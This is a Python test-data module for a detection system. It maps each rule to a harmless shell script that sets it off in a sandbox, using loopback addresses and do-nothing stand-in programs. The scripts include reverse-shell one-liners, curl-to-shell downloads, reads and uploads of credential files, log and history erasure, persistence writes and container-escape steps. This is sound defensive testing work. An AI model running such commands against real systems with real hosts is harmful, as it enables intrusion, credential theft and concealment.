"""What must be done for each shipped rule to fire: data for ``test_shipped_rules_fire``.

An act is a shell script that really does, harmlessly, what its rule looks for: it runs programs with
the arguments that give an intruder away, or opens, renames, links or removes the file. Programs that are not there
(kubectl, nmap, a miner) are played by a program that does nothing under that name. Nothing leaves the machine:
the only address is 127.0.0.1, port 1, where nobody listens, in a network namespace of the test's own.

Paths are absolute, because busybox runs its own applets without an exec when they are named without one.
"""

STAND_INS = (
    "/usr/bin/apt-get",
    "/usr/bin/capsh",
    "/usr/bin/chisel",
    "/usr/bin/curl",
    "/usr/bin/gcc",
    "/usr/bin/hydra",
    "/usr/bin/kubectl",
    "/usr/bin/nmap",
    "/usr/bin/ssh",
    "/usr/bin/systemctl",
    "/usr/bin/xmrig",
    "/usr/sbin/nft",
)
"""Names under which the container's image has a program that does nothing."""

SERVERS = ("/usr/sbin/nginx", "/usr/sbin/postgres", "/usr/bin/java")
"""Names under which the image has a program that forks and runs what it is told, as an attacked server does."""

IN_A_CONTAINER = {
    "shell_from_web_server": "/usr/sbin/nginx /bin/sh -c true",
    "shell_from_database_server": "/usr/sbin/postgres /bin/sh -c true",
    "shell_from_java_program": "/usr/bin/java /bin/sh -c true",
    "interactive_shell_in_container": "/opt/terminal /bin/sh",
    "download_piped_to_interpreter": "/bin/sh -c '/usr/bin/curl -s http://127.0.0.1:1/x | sh'",
    "decoded_text_run_by_shell": "/bin/sh -c 'echo dHJ1ZQo= | base64 -d | sh'",
    "program_run_from_shared_memory": "/bin/cp /bin/busybox /dev/shm/tool; /dev/shm/tool true",
    "program_run_from_temporary_folder": "/bin/cp /bin/busybox /tmp/tool; /tmp/tool true",
    "new_program_in_container": "/bin/cp /bin/busybox /usr/bin/fresh; /usr/bin/fresh true",
    "package_manager_in_container": "/usr/bin/apt-get install -y netcat",
    "compiler_in_container": "/usr/bin/gcc -o x x.c",
    "container_client_in_container": "/usr/bin/kubectl get pods",
    "reverse_shell_by_network_tool": "/usr/bin/nc 127.0.0.1 1 -e /bin/sh",
    "download_to_temporary_folder": "/usr/bin/wget -O /var/tmp/x http://127.0.0.1:1/x",
    "cron_file_written": "/bin/mkdir -p /var/spool/cron/crontabs; echo > /var/spool/cron/crontabs/app",
    "systemd_unit_written": "/bin/mkdir -p /etc/systemd/system; echo > /etc/systemd/system/x.service",
    "shell_profile_written": "echo : >> /home/app/.profile",
    "authorized_keys_written": "/bin/mkdir -p /home/app/.ssh; echo > /home/app/.ssh/authorized_keys",
    "loader_preload_written": "echo > /etc/ld.so.preload",
    "udev_rule_written": "/bin/mkdir -p /etc/udev/rules.d; echo > /etc/udev/rules.d/99-x.rules",
    "boot_script_written": "/bin/mkdir -p /etc/init.d; echo > /etc/init.d/x",
    "pam_configuration_written": "/bin/mkdir -p /etc/pam.d; echo > /etc/pam.d/sshd",
    "package_manager_hook_written": "/bin/mkdir -p /etc/apt/apt.conf.d; echo > /etc/apt/apt.conf.d/99x",
    "module_autoload_written": "/bin/mkdir -p /etc/modules-load.d; echo > /etc/modules-load.d/x.conf",
    "container_escape_file_written": "/bin/mkdir -p /tmp/cgroup; echo > /tmp/cgroup/release_agent",
    "host_disk_mounted_in_container": "/bin/mount /dev/sda1 /mnt",
    "host_namespace_entered_from_container": "/usr/bin/nsenter -t 1 -m true",
    "runtime_socket_used_by_command_line": "/usr/bin/curl --unix-socket /var/run/docker.sock http://d/containers/json",
    "user_namespace_made_in_container": "/usr/bin/capsh --print",
    "setuid_bit_set": "/bin/cp /bin/busybox ./tool; /bin/chmod u+s ./tool",
    "sudoers_written": "/bin/mkdir -p /etc/sudoers.d; echo > /etc/sudoers.d/x",
    "program_run_from_memory": "/opt/runner memfd /opt/stand_in innocent",
    "deleted_program_run": "/opt/runner deleted /opt/stand_in gone",
    "hidden_program_run": "/bin/cp /bin/busybox ./.hidden; ./.hidden true",
    "log_erased": "echo > /var/log/auth.log; /bin/rm -f /var/log/auth.log",
    "shell_history_disabled": "/bin/sh -c 'unset HISTFILE; true'",
    "system_file_time_changed": "echo > /etc/planted; /bin/touch -t 202001010000 /etc/planted",
    "security_service_stopped": "/usr/bin/systemctl stop auditd",
    "host_protection_disabled": "/usr/sbin/nft flush ruleset",
    "kernel_thread_name_forged": "/opt/runner proc-fd /opt/stand_in '[kworker/0:1]'",
    "program_run_by_dynamic_loader": "/lib64/ld-linux-x86-64.so.2 /opt/dynamic",
    "shadow_file_read": "/bin/cat /etc/shadow",
    "ssh_private_key_read": "/bin/mkdir -p .ssh; echo > .ssh/id_rsa; /bin/cat .ssh/id_rsa",
    "stray_ssh_private_key_read": "/bin/mkdir -p old; echo > old/id_rsa; /bin/cat old/id_rsa",
    "cloud_credentials_read": "/bin/mkdir -p .aws; echo > .aws/credentials; /bin/cat .aws/credentials",
    "kubernetes_token_read": """
        folder=/run/secrets/kubernetes.io/serviceaccount
        /bin/mkdir -p $folder/..data
        echo > $folder/..data/token
        /bin/cat $folder/..data/token
    """,
    "process_environment_read": "/bin/cat /proc/1/environ",
    "shell_history_read": "echo > /home/app/.ash_history; /bin/cat /home/app/.ash_history",
    "browser_credentials_read": """
        folder=/home/app/.mozilla/firefox/a.default
        /bin/mkdir -p $folder
        echo > $folder/logins.json
        /bin/cat $folder/logins.json
    """,
    "cloud_metadata_requested": "/usr/bin/curl --connect-to ::127.0.0.1:1 http://169.254.169.254/latest/meta-data/",
    "password_guessing_tool_run": "/usr/bin/hydra -l root ssh://127.0.0.1",
    "port_scanner_run": "/usr/bin/nmap 127.0.0.1",
    "setuid_files_searched": "/usr/bin/find /opt -perm -4000",
    "tunnelling_tool_run": "/usr/bin/chisel client 127.0.0.1:1 R:socks",
    "remote_client_in_container": "/usr/bin/ssh 127.0.0.1 true",
    "sensitive_folders_archived": "/bin/mkdir -p /root/notes; /bin/tar -czf /tmp/notes.tgz /root/notes",
    "file_uploaded_by_command_line": "/usr/bin/curl -T ./file http://192.0.2.1:1/",
    "sensitive_file_uploaded": "/usr/bin/curl -T /root/.aws/credentials http://127.0.0.1:1/",
    "cryptocurrency_miner_run": "/usr/bin/xmrig -o stratum+tcp://127.0.0.1:1",
    "log_deleted": "/bin/mkdir -p /var/log; echo > /var/log/secure; /usr/bin/unlink /var/log/secure",
    "log_emptied": "/bin/mkdir -p /var/log; echo old > /var/log/syslog; /usr/bin/truncate -s 0 /var/log/syslog",
    "shell_history_deleted": """
        /bin/mkdir -p /home/app
        echo > /home/app/.bash_history
        /bin/rm -f /home/app/.bash_history
    """,
    "shell_history_linked_away": "/bin/ln -s /dev/null .mysql_history",
    "account_file_written": "/bin/cp /etc/passwd /etc/.new; /bin/mv /etc/.new /etc/passwd",
    "setuid_bit_given": "/bin/cp /bin/busybox /tmp/rooted; /bin/chmod u+s /tmp/rooted",
    "hidden_file_made_executable": "echo > /tmp/.dropped; /bin/chmod 755 /tmp/.dropped",
    "secret_file_linked": "/bin/ln -s /etc/gshadow ./harmless",
    "system_file_link_planted": "/bin/ln -s /etc/cron.d/app /tmp/app.log",
    "trusted_program_replaced": "/bin/cp /bin/busybox /usr/bin/.new; /bin/mv /usr/bin/.new /usr/bin/top",
    "protection_configuration_deleted": """
        /bin/mkdir -p /etc/audit/rules.d
        echo > /etc/audit/rules.d/x.rules
        /bin/rm /etc/audit/../audit/rules.d/x.rules
    """,
    "file_renamed_to_ransom_suffix": "echo > ./ledger; /bin/mv ./ledger ./ledger.lockbit",
    "download_then_run": """
        /usr/bin/wget -O /tmp/fetched http://127.0.0.1:1/x
        /bin/cp /bin/busybox /tmp/dropped
        /tmp/dropped true
    """,
    "persistence_after_server_shell": """
        /bin/mkdir -p /root/.ssh
        /usr/sbin/nginx /bin/sh -c 'echo > /root/.ssh/authorized_keys'
    """,
    "credential_sweep": """
        /bin/mkdir -p /root/.kube /root/.ssh
        for file in /root/.kube/config /root/.netrc /root/.ssh/id_ecdsa; do
            echo > $file
            /bin/cat $file
        done
    """,
    "discovery_burst": """
        /usr/bin/whoami
        /bin/ps
        /bin/netstat -a
        /sbin/route
        /sbin/ifconfig
        /bin/dmesg
    """,
}
"""Rule to script for busybox's shell, as root in a container with docker's default capabilities.

In this order: correlations come last, because an alert of a rule that they build on holds back an equal one for a time.
"""

ON_THE_HOST = {
    "inline_script_decodes_code": """/usr/bin/python3 -c 'import base64; exec(base64.b64decode("cGFzcw=="))'""",
    "reverse_shell_by_script_interpreter": (
        """/usr/bin/python3 -c 'import socket; socket.socket().connect_ex(("127.0.0.1", 1)); "pty.spawn"'"""
    ),
    "reverse_shell_by_shell_socket": "/bin/bash -c 'bash -i >& /dev/tcp/127.0.0.1/1 0>&1'",
    "kernel_protection_setting_written": ": >> /proc/sys/kernel/randomize_va_space",
    "sudo_or_su_by_service_account": "/usr/bin/setpriv --reuid=33 --clear-groups /usr/bin/su --version",
    "shadow_file_read": "/usr/bin/cat /etc/shadow",
    "ssh_private_key_read": "/usr/bin/mkdir -p .ssh; : > .ssh/id_rsa; /usr/bin/cat .ssh/id_rsa",
    "authorized_keys_written": (
        "/usr/bin/mkdir -p /root/.ssh; : > /root/.ssh/x; /usr/bin/ln /root/.ssh/x /root/.ssh/authorized_keys"
    ),
    "cron_file_written": "/usr/bin/mkdir -p /etc/cron.d; : > /etc/evil; /usr/bin/mv /etc/evil /etc/cron.d/x",
    "systemd_unit_written": "/usr/bin/mkdir -p /etc/systemd/system; : > /etc/systemd/system/x.timer",
    "loader_preload_written": ": > /etc/x; /usr/bin/mv /etc/x /etc/pam.d/../ld.so.preload",
    "pam_configuration_written": ": >> /etc/pam.d/common-auth",
    "sudoers_written": "/usr/bin/mkdir -p /etc/sudoers.d; : > /etc/sudoers.d/x",
    "decoded_text_run_by_shell": "/bin/bash -c 'echo dHJ1ZQo= | base64 -d | sh'",
    "log_erased": "/usr/bin/truncate -s 0 /var/log/wtmp",
    "log_deleted": (
        """/usr/bin/python3 -c 'import os; open("/var/log/faillog", "a").close(); os.unlink("/var/log/faillog")'"""
    ),
    "log_emptied": "/usr/bin/truncate -s 0 /var/log/lastlog",
    "shell_history_deleted": ": > /root/.bash_history; /usr/bin/rm /root/.bash_history",
    "shell_history_linked_away": "/usr/bin/ln -s /dev/null /root/.zsh_history",
    "account_file_written": "/usr/bin/cp /etc/group /etc/.new; /usr/bin/mv /etc/.new /etc/group",
    "setuid_bit_given": """
        /usr/bin/cp /usr/bin/true /root/rooted
        /usr/bin/python3 -c 'import os; os.fchmod(os.open("/root/rooted", os.O_RDONLY), 0o4755)'
    """,
    "hidden_file_made_executable": ": > /dev/shm/dropped; /usr/bin/chmod +x /dev/shm/dropped",
    "secret_file_linked": "/usr/bin/ln /etc/shadow /etc/harmless",
    "system_file_link_planted": "/usr/bin/ln -s /etc/profile.d/x.sh /dev/shm/lock",
    "protection_configuration_deleted": (
        "/usr/bin/mkdir -p /etc/rsyslog.d; : > /etc/rsyslog.d/x.conf; /usr/bin/rm /etc/rsyslog.d/x.conf"
    ),
    "file_renamed_to_ransom_suffix": ": > ledger; /usr/bin/mv ledger ledger.encrypted",
    "process_environment_read": "/usr/bin/cat /proc/self/environ",
    "program_run_from_shared_memory": "/usr/bin/cp /usr/bin/true /dev/shm/tool; /dev/shm/tool",
    "program_run_from_memory": "$PROGRAMS/runner memfd $PROGRAMS/stand_in innocent",
}
"""Rule to script for the host's shell, as root; ``/etc``, ``/root``, ``/var/log``, ``/dev/shm`` are private copies."""
